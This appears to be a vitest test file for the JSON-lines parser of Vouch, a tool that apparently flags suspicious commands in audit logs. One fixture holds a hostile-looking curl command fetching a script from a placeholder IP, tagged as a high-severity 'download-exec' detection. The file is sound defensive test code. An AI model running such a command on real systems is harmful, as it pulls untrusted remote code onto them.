import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createJsonLinesParser } from '../../../src/sources/parsers/json-lines.js';
import { baseOptions, run } from './parser-harness.js';

const parser = () => createJsonLinesParser(baseOptions);

describe('JSON lines parser (Vouch schema)', () => {
  it('parses a full record', () => {
    const line = JSON.stringify({
      id: 'evt-1',
      time: '2026-11-24T14:23:28.5Z',
      host: 'web-1',
      user: 'alice',
      run_as: 'root',
      argv: ['/bin/sh', '-c', 'echo hi; id'],
      cwd: '/srv',
      exe: '/bin/sh',
      pid: 10,
      ppid: 9,
      login_uid: 1000,
      sudo_denied: true,
      denial_reason: 'command not allowed',
      success: false,
      extra: { ticket: 'OPS-1' },
    });
    const { events, malformed } = run(parser(), [line]);
    expect(malformed).toEqual([]);
    expect(events[0]).toEqual({
      time: new Date('2026-11-24T14:23:28.500Z'),
      host: 'web-1',
      user: 'alice',
      loginUid: 1000,
      runAs: 'root',
      argv: ['/bin/sh', '-c', 'echo hi; id'],
      command: '/bin/sh -c echo hi; id',
      exe: '/bin/sh',
      cwd: '/srv',
      pid: 10,
      ppid: 9,
      sourceFormat: 'json',
      eventKey: 'json:evt-1',
      sudoDenied: true,
      denialReason: 'command not allowed',
      success: false,
      extra: { ticket: 'OPS-1' },
    });
  });

  it('splits command on whitespace without argv and accepts epoch seconds and milliseconds', () => {
    const lines = [
      JSON.stringify({ time: 1795530208, command: '  ls   -la\t/tmp ' }),
      JSON.stringify({ time: 1795530208123, command: 'id' }),
      JSON.stringify({ time: '1795530208', command: 'id' }),
    ];
    const { events } = run(parser(), lines);
    expect(events.map((e) => [e.time.getTime(), e.argv, e.host, e.user])).toEqual([
      [1795530208000, ['ls', '-la', '/tmp'], 'default-host', null],
      [1795530208123, ['id'], 'default-host', null],
      [1795530208000, ['id'], 'default-host', null],
    ]);
    expect(events[0]!.eventKey).toMatch(/^json:[0-9a-f]{40}$/);
  });

  it('reads a line printed by `vouch scan --json`, ignoring rule and source_format', () => {
    const scanned = {
      time: '2026-11-24T14:23:28.000Z',
      host: 'web-1',
      user: 'alice',
      run_as: 'root',
      argv: ['/usr/bin/curl', '-s', 'http://203.0.113.9/x.sh'],
      command: '/usr/bin/curl -s http://203.0.113.9/x.sh',
      cwd: '/tmp',
      source_format: 'auditd',
      rule: { id: 'download-exec', severity: 'high' },
    };
    const event = run(parser(), [JSON.stringify(scanned)]).events[0]!;
    expect(event).toMatchObject({
      time: new Date(scanned.time),
      host: scanned.host,
      user: scanned.user,
      runAs: scanned.run_as,
      argv: scanned.argv,
      command: scanned.command,
      cwd: scanned.cwd,
      sourceFormat: 'json',
    });
  });

  it.each([
    [{ time: '2026-11-24T14:23:28Z', argv: 'ls' }, /argv/],
    [{ time: '2026-11-24T14:23:28Z', argv: ['ls', 1] }, /argv/],
    [{ time: '2026-11-24T14:23:28Z' }, /argv or command/],
    [{ time: 'yesterday', command: 'ls' }, /time/],
    [{ command: 'ls' }, /time is required/],
    [{ time: 1, command: 'ls', user: 5 }, /user/],
    [{ time: 1, command: 'ls', pid: 'x' }, /pid/],
    [{ time: 1, command: 'ls', sudo_denied: 'yes' }, /sudo_denied/],
    [{ time: 1, command: 'ls', extra: { a: 1 } }, /extra\.a/],
    [{ time: 1, command: '   ' }, /empty/],
  ])('rejects %j as bad_json', (record, message) => {
    const { events, malformed } = run(parser(), [JSON.stringify(record)]);
    expect(events).toEqual([]);
    expect(malformed).toHaveLength(1);
    expect(malformed[0]!.reason).toBe('bad_json');
    expect((malformed[0] as { detail?: string }).detail).toMatch(message);
  });

  it('round-trips generated events: argv, user, host and cwd survive', () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 20 });
    fc.assert(
      fc.property(
        fc.array(text, { minLength: 1, maxLength: 8 }),
        fc.option(text, { nil: null }),
        text,
        fc.option(text, { nil: null }),
        fc.integer({ min: 0, max: 4_000_000_000_000 }),
        (argv, user, host, cwd, ms) => {
          const line = JSON.stringify({ time: new Date(ms).toISOString(), host, user, argv, cwd });
          const { events, malformed } = run(parser(), [line]);
          expect(malformed).toEqual([]);
          expect(events[0]).toMatchObject({ argv, user, host, cwd, time: new Date(ms) });
        },
      ),
      { numRuns: 300 },
    );
  });
});
